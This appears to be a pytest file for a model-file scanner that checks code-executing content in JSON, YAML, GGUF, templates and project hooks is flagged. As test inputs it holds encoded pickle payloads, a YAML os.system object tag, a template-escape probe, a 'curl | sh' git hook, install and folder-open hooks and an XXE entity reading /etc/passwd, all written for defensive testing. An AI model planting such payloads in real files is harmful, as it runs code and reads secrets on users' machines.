"""What runs code from within settings and texts, whatever the key or the file is called. Found by attacks of ours."""

from __future__ import annotations

import base64
import gzip
import json
import struct
import zlib

import pytest

from safeload.core.blob import MemoryBlob
from safeload.core.finding import Status
from safeload.core.limits import Limits
from safeload.engine.inspect import inspect
from tests.corpus.build import payload, safetensors

CODE = base64.b64encode(b"\xe3" + bytes(40)).decode()
LAMBDA = {"class_name": "Lambda", "config": {"function": [CODE, None, None]}}
ESCAPE = "{{ x.__class__ }}"
COMMAND = "__import__('os').system('touch MARKER')"


def status(text: str | bytes, name: str) -> Status:
    return inspect(MemoryBlob(text if isinstance(text, bytes) else text.encode()), name, Limits()).report.status


def spelled(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


SPELLINGS = {
    "base64": lambda raw: spelled(raw),
    "base64 for addresses": lambda raw: base64.urlsafe_b64encode(raw).decode(),
    "hexadecimal": lambda raw: raw.hex(),
    "compressed": lambda raw: spelled(zlib.compress(raw)),
    "gzip": lambda raw: spelled(gzip.compress(raw)),
    "twice": lambda raw: spelled(spelled(raw).encode()),
    "an address": lambda raw: "data:application/octet-stream;base64," + spelled(raw),
}


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_a_pickle_in_a_text_is_read(spelling: str, protocol: int) -> None:
    """Libraries keep pickles in JSON and YAML, and unpickle them (stable-baselines3's `:serialized:`)."""
    hidden = SPELLINGS[spelling](payload(protocol))
    if spelling == "twice" and protocol == 0:
        pytest.skip("it begins like any word")
    assert status(json.dumps({"policy_class": {":serialized:": hidden}}), "data") is Status.DANGEROUS
    assert status(json.dumps({"a": [hidden]}).replace("/", "\\/"), "model.json") is Status.DANGEROUS
    assert status(f"model: !!binary {hidden}\n", "model.yaml") is Status.DANGEROUS
    assert status(f"the model is\n{hidden}\n", "model.txt") is Status.DANGEROUS
    tensor = {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}
    header = json.dumps({"__metadata__": {"x": hidden}, "w": tensor})
    assert status(safetensors(header, b"x"), "model.safetensors") is Status.DANGEROUS


def test_a_pickle_in_lines_is_read() -> None:
    """Base64 as mail and YAML wrap it."""
    assert status(base64.encodebytes(payload()), "model.b64") is Status.DANGEROUS
    lines = "\n".join("  " + line for line in base64.encodebytes(payload()).decode().splitlines())
    assert status(f"model: !!binary |\n{lines}\n", "m.yaml") is Status.DANGEROUS


def test_what_only_looks_like_one_is_left_alone() -> None:
    """Pictures, digests, keys and words of an alphabet hold no pickle."""
    for text in (spelled(b"\x89PNG" + bytes(range(256))), "gAMA" + "a" * 40, "Keras" * 20, "80" * 40, "eJ" + "x" * 50):
        assert status(json.dumps({"a": text, "b": [text]}), "x.json") is Status.SAFE
        assert status(text, "x.txt") is Status.SAFE


@pytest.mark.parametrize("name", ["model.json", "config.json", "architecture"])
def test_a_model_that_keras_wrote_as_json(name: str) -> None:
    """`model_from_json` makes every class that is named, and functions of marshalled code."""
    layers = {"class_name": "Sequential", "config": {"layers": [LAMBDA]}, "keras_version": "2.15"}
    assert status(json.dumps(layers), name) is Status.DANGEROUS
    assert status(json.dumps({"model": layers}), name) is Status.DANGEROUS
    reaching = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    assert status(json.dumps({"class_name": "Dense", "config": {"activation": reaching}}), name) is Status.DANGEROUS
    plain = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {"units": 1}}]}}
    assert status(json.dumps(plain), name) is Status.SAFE


@pytest.mark.parametrize(
    "text",
    [
        "a: &k _target_\n*k : os.system\n",
        "x: &k _target_\ny:\n  ? *k\n  : os.system\n",
        "m:\n  _target_: >-\n    os.system\n",
        "m:\n  _target_: |\n\n    os.system\n  b: 1\n",
    ],
)
def test_keys_and_values_of_yaml_in_other_spellings(text: str) -> None:
    """A key may be an alias, and a value a block of lines."""
    assert status(text, "config.yaml") is Status.DANGEROUS


@pytest.mark.parametrize("mark", ["|", ">", "|-", ">+2", "| # a comment"])
def test_a_template_in_a_block_of_yaml(mark: str) -> None:
    """Most templates in YAML have several lines."""
    assert (
        status(f"chat_template: {mark}\n  {{% if a %}}\n  {ESCAPE}{{% endif %}}\nb: 1\n", "c.yaml") is Status.DANGEROUS
    )


@pytest.mark.parametrize("name", ["config", "hparams", "config.txt", "model.cfg", "settings.toml"])
def test_settings_under_any_name(name: str) -> None:
    """Readers of YAML and TOML are given files of any name."""
    assert status("a: 1\nb: !!python/object/apply:os.system [x]\n", name) is Status.DANGEROUS
    assert status("[model]\n_target_ = 'os.system'\n", name) is Status.DANGEROUS
    assert status("name = x\nrate = 0.1\n", name) is Status.SAFE


@pytest.mark.parametrize(
    "value",
    ["os.system", "subprocess:Popen", "posix.system", "builtins.eval", COMMAND, "${eval:" + COMMAND + "}"],
)
def test_values_that_name_what_runs_code(value: str) -> None:
    """Nobody knows every setting that is imported, so values are looked at, too."""
    assert status(json.dumps({"unheard-of": [{"of": value}]}), "config.json") is not Status.SAFE
    assert status(f'a:\n  unheard-of: "{value}"\n', "config.yaml") is not Status.SAFE
    assert status(f"- {value}\n", "config.yaml") is not Status.SAFE


@pytest.mark.parametrize("value", ["os.path.join", "osx", "pickled.models", "system", "os", "The os.system() call"])
def test_values_that_only_sound_like_it(value: str) -> None:
    """Other names and sentences are left alone."""
    assert status(json.dumps({"a": value}), "config.json") is Status.SAFE
    assert status(f"a: {value}\n", "config.yaml") is Status.SAFE


def test_json_that_becomes_objects() -> None:
    """jsonpickle makes what `py/object` and its like name."""
    assert status(json.dumps({"py/reduce": [{"py/function": "os.system"}]}), "m.json") is Status.DANGEROUS
    assert status(json.dumps({"py/object": "evil.Model"}), "m.json") is Status.UNVERIFIED


@pytest.mark.parametrize("name", ["prompt.tmpl", "chat_template", "prompt_template.txt", "page.html"])
def test_a_template_under_any_name(name: str) -> None:
    """Programs render prompts from files of any name, and from any setting."""
    assert status(f"<p>{ESCAPE}</p>", name) is Status.DANGEROUS
    assert status(json.dumps({"template_format": "jinja2", "template": ESCAPE}), "prompt.json") is Status.DANGEROUS
    assert status("Hello {{ name }}, {% if a %}yes{% endif %}", name) is Status.SAFE


def text(value: str) -> bytes:
    return struct.pack("<Q", len(value)) + value.encode()


def gguf(key: str, value: str) -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + text(key) + struct.pack("<I", 8) + text(value)


def test_texts_and_ends_of_gguf() -> None:
    """Templates under other keys, and what follows the last tensor."""
    assert status(gguf("general.prompt", ESCAPE), "m.gguf") is Status.DANGEROUS
    whole = gguf("general.name", "a")
    assert status(whole + bytes(-len(whole) % 32), "m.gguf") is Status.SAFE
    assert status(whole + bytes(-len(whole) % 32) + payload(), "m.gguf") is not Status.SAFE


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("post-checkout", "curl -s x | sh\n"),
        ("config", "[core]\n\tfsmonitor = touch x\n"),
        ("package.json", '{"scripts": {"postinstall": "touch x"}}'),
        ("tasks.json", '{"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}'),
        ("devcontainer.json", '{"postCreateCommand": "touch x"}'),
        ("kernel.ptx", ".version 7.0\n.target sm_70\n"),
        ("feats.scp", "utt1 touch x |\n"),
        ("operative.gin", "import evil\nf.x = 1\n"),
        ("pyproject.toml", '[build-system]\nrequires = ["evil @ https://example.org/x.whl"]\n'),
        ("setup.cfg", "[options]\ninstall_requires =\n  evil @ git+https://example.org/x\n"),
        ("x.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ],
)
def test_files_that_some_program_acts_on(name: str, content: str) -> None:
    """Hooks, start-up commands, kernels as text, tables of commands, dependencies from elsewhere."""
    assert status(content, name) in (Status.UNVERIFIED, Status.DANGEROUS)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("config", "[core]\n\tbare = false\n"),
        ("config", "learning rate = 1\n"),
        ("package.json", '{"name": "x", "scripts": {"build": "tsc"}}'),
        ("pyproject.toml", '[project]\nname = "x"\n[project.urls]\nHomepage = "https://example.org"\n'),
        ("feats.scp", "utt1 feats.ark:5\n"),
        ("my-pre-commit", "about hooks\n"),
        ("x.xml", '<?xml version="1.0"?><a/>'),
    ],
)
def test_their_harmless_neighbours(name: str, content: str) -> None:
    """The same files without anything to act on are safe."""
    assert status(content, name) is Status.SAFE


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("yolo.yaml", f"activation: nn.SiLU() if {COMMAND} else 0\n"),
        ("yolo.yaml", f'backbone:\n  - [-1, 1, "{COMMAND}", [64]]\n'),
        ("data.yaml", "path: x\ndownload: bash get.sh\n"),
        ("data.yaml", "path: x\ndownload: |\n  import x\n  x.run()\n"),
        ("config.json", '{"custom_imports": {"imports": ["evil"]}}'),
        ("genai_config.json", '{"model": {"custom_ops_library": "evil.so"}}'),
        ("config.yaml", "lib: /x/evil.dll\n"),
        ("metadata", '{"class": "evil.Model", "uid": "x", "paramMap": {}}'),
    ],
)
def test_settings_that_libraries_evaluate_import_or_open(name: str, content: str) -> None:
    """Ultralytics evaluates activations and runs `download`, MMEngine imports, others open native code."""
    assert status(content, name) is Status.UNVERIFIED


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("data.yaml", "download: https://example.org/coco.zip\n"),
        ("data.yaml", "download: true\n"),
        ("config.yaml", "activation: nn.SiLU()\n"),
        ("metadata", '{"class": "org.apache.spark.ml.PipelineModel", "uid": "x"}'),
        ("vocab.json", json.dumps([f"os.{n}" for n in range(2000)])),
    ],
)
def test_settings_of_the_same_names_that_are_harmless(name: str, content: str) -> None:
    """Addresses, switches, classes of Spark, and words of a vocabulary."""
    assert status(content, name) is Status.SAFE


def test_a_model_of_mlflow_is_not_dangerous() -> None:
    """Every model of MLflow names one of its loaders; the one that unpickles is said, and what it reads is judged."""
    flavour = "flavors:\n  python_function:\n    loader_module: mlflow.{}\n"
    assert status(flavour.format("pyfunc.model"), "MLmodel") is Status.UNVERIFIED
    assert status(flavour.format("sklearn"), "MLmodel") <= Status.UNVERIFIED
    assert status("flavors:\n  python_function:\n    loader_module: subprocess\n", "MLmodel") is Status.DANGEROUS


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (
            "plist.xml",
            '<?xml version="1.0"?>\n<!DOCTYPE plist PUBLIC "-//A//B" "http://www.example.org/x.dtd">\n<plist/>',
        ),
        ("README.txt", "uses libcuda.so\n"),
        ("poetry.lock", '[[package]]\nname = "x"\nfiles = [\n  {file = "x.whl"},\n]\n'),
        ("label_map.pbtxt", 'item {\n  id: 1\n  name: "x"\n}\n'),
        ("config.pbtxt", 'name: "m"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\n'),
    ],
)
def test_texts_of_other_programs_are_safe(name: str, content: str) -> None:
    """Property lists, notes, locked dependencies, label maps and settings of servers."""
    assert status(content, name) is Status.SAFE
